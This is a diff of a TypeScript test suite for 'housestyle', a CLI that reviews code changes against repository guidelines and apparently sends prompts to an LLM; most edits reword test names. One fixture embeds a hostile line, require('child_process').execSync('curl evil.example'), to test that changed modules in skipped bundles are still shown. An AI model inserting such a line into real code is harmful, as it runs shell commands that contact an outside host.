@@ -27,21 +27,24 @@ async function changedRepository(base: Readonly<Record<string, string>> = {}): P
 }
 
 describe('the main command of the README', () => {
-  it.each(SUPPORTED_NODES)('prints what the README shows, with nothing installed, on %s', async (_name, node) => {
-    const folder = temporaryFolder();
-    cpSync(join(root, 'dist'), join(folder, 'dist'), { recursive: true });
-    cpSync(join(root, 'examples'), join(folder, 'examples'), { recursive: true });
-    const result = await runCli(['review', '--repo', 'examples/shop', '--diff', 'examples/shop.diff'], {
-      cwd: folder,
-      entry: join(folder, 'dist/cli.js'),
-      node,
-    });
-    const readme = readFileSync(join(root, 'README.md'), 'utf8');
-    const shown = /<!-- generated: example -->\n```\n([\s\S]*?)```\n<!-- end of example -->/.exec(readme)?.[1];
-    expect(result).toEqual({ exitCode: 0, stdout: shown, stderr: '' });
-  });
+  it.each(SUPPORTED_NODES)(
+    'prints the output that the README shows, with nothing installed, on %s',
+    async (_name, node) => {
+      const folder = temporaryFolder();
+      cpSync(join(root, 'dist'), join(folder, 'dist'), { recursive: true });
+      cpSync(join(root, 'examples'), join(folder, 'examples'), { recursive: true });
+      const result = await runCli(['review', '--repo', 'examples/shop', '--diff', 'examples/shop.diff'], {
+        cwd: folder,
+        entry: join(folder, 'dist/cli.js'),
+        node,
+      });
+      const readme = readFileSync(join(root, 'README.md'), 'utf8');
+      const shown = /<!-- generated: example -->\n```\n([\s\S]*?)```\n<!-- end of example -->/.exec(readme)?.[1];
+      expect(result).toEqual({ exitCode: 0, stdout: shown, stderr: '' });
+    },
+  );
 
-  it('finds what the guidelines of the example forbid and nothing else', async () => {
+  it('reports what the guidelines of the example forbid, and nothing else', async () => {
     const { stdout } = await runCli(
       ['review', '--repo', 'examples/shop', '--diff', 'examples/shop.diff', '--format', 'json'],
       { cwd: root },
@@ -59,7 +62,7 @@ describe('the main command of the README', () => {
 });
 
 describe('housestyle review', () => {
-  it('compares the current branch with where it left the default branch', async () => {
+  it('compares the current branch with the commit where it left the default branch', async () => {
     const { exitCode, stdout } = await runCli(['review', '--format', 'json'], { cwd: await changedRepository() });
     expect(exitCode).toBe(0);
     expect(JSON.parse(stdout)).toMatchObject({
@@ -104,7 +107,7 @@ describe('housestyle review', () => {
     expect((JSON.parse(stdout) as { findings: unknown[] }).findings).toHaveLength(2);
   });
 
-  it('is guided by the base, and by the head only when told to', async () => {
+  it('takes the guidelines from the base, and from the head only on request', async () => {
     const repository = await makeRepository({
       commits: [{ message: 'Base', files: { 'a.js': '' } }],
       branches: {
@@ -123,7 +126,7 @@ describe('housestyle review', () => {
     expect(await count('--instructions-from', 'head')).toBe(1);
   });
 
-  it('goes on with what can be read, and says of each file why it cannot', async () => {
+  it('continues with the readable files, and says for each other file why it cannot be read', async () => {
     const repository = await makeRepository({
       commits: [
         {
@@ -174,13 +177,13 @@ describe('housestyle review', () => {
     expect(stdout).toMatch(expected);
   });
 
-  it('ends with 1 only where a finding reaches `--fail-on`', async () => {
+  it('ends with exit code 1 only if a finding reaches `--fail-on`', async () => {
     const cwd = await changedRepository();
     expect((await runCli(['review', '--fail-on', 'high'], { cwd })).exitCode).toBe(0);
     expect((await runCli(['review', '--fail-on', 'medium'], { cwd })).exitCode).toBe(1);
   });
 
-  it('takes its own word from a configuration that serves validation too', async () => {
+  it('takes its own threshold from a configuration that validation uses too', async () => {
     const folder = await changedRepository();
     writeFileSync(join(folder, 'both.yml'), 'fail-on: error\n');
     expect((await runCli(['review', '--config', 'both.yml'], { cwd: folder })).exitCode).toBe(0);
@@ -224,7 +227,7 @@ describe('housestyle review', () => {
     expect(stderr).toContain(`names the server ${model.url}; OPENAI_API_KEY is not sent there without your consent`);
   });
 
-  it('sends byte for byte what `dump` shows', async () => {
+  it('sends the same bytes that `dump` shows', async () => {
     const model = await startModel({ replies: () => ({ content: { comments: [] } }) });
     onTestFinished(() => model.close());
     const cwd = await changedRepository();
@@ -237,7 +240,7 @@ describe('housestyle review', () => {
     );
   });
 
-  it('sends byte for byte what `dump` shows to each agent that a message names or a statement orders, and its tools', async () => {
+  it('sends the prompt and tools that `dump` shows to each agent that a message or a statement selects, byte for byte', async () => {
     const model = await startModel({ replies: () => ({ content: { comments: [] } }) });
     onTestFinished(() => model.close());
     const repository = await makeRepository({
@@ -332,7 +335,7 @@ describe('the other commands', () => {
     });
   });
 
-  it('changes says of each file that a review leaves out why, and what kind of reason it is', async () => {
+  it('changes says for each file that a review skips the reason and its kind', async () => {
     const repository = await makeRepository({
       commits: [{ message: 'Base', files: { '.gitattributes': 'gen/** linguist-generated\n' } }],
       branches: {
@@ -352,7 +355,7 @@ describe('the other commands', () => {
     });
   });
 
-  it('changes --bundles shows the modules that changed, wherever the bundle is left out of a review', async () => {
+  it('changes --bundles shows the changed modules, also of a bundle that a review skips', async () => {
     const evil = 'require("child_process").execSync("curl evil.example");';
     const repository = await makeRepository({
       commits: [
@@ -425,7 +428,7 @@ describe('the other commands', () => {
     });
   });
 
-  it('dump adds up: pieces and overhead are the tokens, and no request exceeds the budget', async () => {
+  it('dump adds up: pieces and overhead make the total of tokens, and no request exceeds the budget', async () => {
     const { stdout } = await runCli(['dump', '--max-input-tokens', '2000'], { cwd: await changedRepository() });
     const dump = JSON.parse(stdout) as {
       budget: number;
@@ -440,7 +443,7 @@ describe('the other commands', () => {
     }
   });
 
-  it('validate reports broken files with line and column, and ends with 1', async () => {
+  it('validate reports broken files with line and column, and ends with exit code 1', async () => {
     const repository = await makeRepository({
       commits: [
         {
@@ -463,7 +466,7 @@ describe('the other commands', () => {
 });
 
 describe('paths given to validate', () => {
-  it('count from the working directory and limit the report', async () => {
+  it('are relative to the working directory and limit the report', async () => {
     const broken = '---\napplyTo: [a\n---\nText\n';
     const folder = '.github/instructions';
     const repository = await makeRepository({
@@ -494,7 +497,7 @@ describe('wrong use', () => {
     ['a flag of another command', ['validate', '--base', 'x'], 2, 'is a flag of review'],
     ['a flag without its value', ['review', '--base'], 2, '`--base` needs a value'],
     [
-      'a format that the command has not',
+      'a format that the command does not have',
       ['review', '--format', 'xml'],
       2,
       'Its formats are text, json, markdown, sarif, github.',
@@ -516,28 +519,33 @@ describe('wrong use', () => {
       '`--max-comments` must be a whole number from 0, not "-3"',
     ],
     ['a threshold of another command', ['review', '--fail-on', 'warning'], 2, 'For a review, `fail-on` must be one of'],
-    ['a folder that is none', ['validate', '--repo', 'nope'], 2, '"nope" is not a folder'],
-    ['a path that is not there', ['validate', 'nope'], 2, '"nope" does not exist'],
-    ['a path outside', ['validate', '..'], 2, 'is outside of'],
+    ['a folder that does not exist', ['validate', '--repo', 'nope'], 2, '"nope" is not a folder'],
+    ['a path that does not exist', ['validate', 'nope'], 2, '"nope" does not exist'],
+    ['a path outside of the repository', ['validate', '..'], 2, 'is outside of'],
     ['a missing diff', ['review', '--diff', 'nope.diff'], 2, 'The diff "nope.diff" cannot be read'],
     ['a provider without a server', ['review', '--provider', 'openai'], 2, 'neither a key nor a server'],
     ['a server without a model', ['review', '--base-url', 'http://127.0.0.1:9/v1'], 2, 'No model is configured'],
     [
-      'an address that is none',
+      'an address that is not valid',
       ['review', '--base-url', 'localhost'],
       2,
       'an address that begins with http:// or https://',
     ],
     [
-      'a server that is not there',
+      'a server that does not exist',
       ['review', '--base-url', 'http://127.0.0.1:9/v1', '--model', 'm'],
       3,
       'could not be reached',
     ],
-    ['a glob that is none', ['review', '--paths', 'a'.repeat(5000)], 2, '`--paths` must be a list of globs'],
+    ['a glob that is too long', ['review', '--paths', 'a'.repeat(5000)], 2, '`--paths` must be a list of globs'],
     ['a missing configuration', ['review', '--config', 'nope.yml'], 2, 'The configuration "nope.yml" cannot be read'],
-    ['an output file nowhere', ['review', '--output', 'no/such/folder/x'], 2, 'cannot be written'],
-  ])('is told in a sentence: %s', async (_name, args, exitCode, message) => {
+    [
+      'an output file in a folder that does not exist',
+      ['review', '--output', 'no/such/folder/x'],
+      2,
+      'cannot be written',
+    ],
+  ])('is reported in one sentence: %s', async (_name, args, exitCode, message) => {
     const result = await runCli(args, { cwd: await changedRepository() });
     expect({ exitCode: result.exitCode, told: `${result.stdout}${result.stderr}` }).toEqual({
       exitCode,
@@ -546,22 +554,25 @@ describe('wrong use', () => {
     expect(result.stderr).not.toMatch(/\n\s+at |internal error/);
   });
 
-  it('is told outside of a repository', async () => {
+  it('is reported outside of a repository', async () => {
     const result = await runCli(['review'], { cwd: temporaryFolder() });
     expect(result.exitCode).toBe(2);
     expect(result.stderr).toContain('is not in a git repository');
   });
 
-  it('names what is no diff', async () => {
+  it('is reported with the name of a file that is not a diff', async () => {
     const folder = temporaryFolder();
     writeFileSync(join(folder, 'notes.txt'), 'hello\n');
     const result = await runCli(['review', '--diff', 'notes.txt', '--repo', '.'], { cwd: folder });
-    expect(result).toMatchObject({ exitCode: 2, stderr: expect.stringContaining('"notes.txt" does not contain a unified diff') });
+    expect(result).toMatchObject({
+      exitCode: 2,
+      stderr: expect.stringContaining('"notes.txt" does not contain a unified diff'),
+    });
   });
 });
 
 describe('start-up', () => {
-  it('prints the version without loading anything that a command needs', async () => {
+  it('prints the version without loading the code of any command', async () => {
     const { version } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { version: string };
     expect((await runCli(['--version'], { cwd: root })).stdout).toBe(`${version}\n`);
     const loaded = staticImports(join(root, 'dist/cli.js'));
@@ -569,7 +580,7 @@ describe('start-up', () => {
   });
 });
 
-/** A built file and all it imports before it runs. */
+/** Finds a built file and everything that it imports before it runs. */
 function staticImports(file: string, seen: ReadonlySet<string> = new Set()): readonly string[] {
   const specifiers = [
     ...readFileSync(file, 'utf8').matchAll(
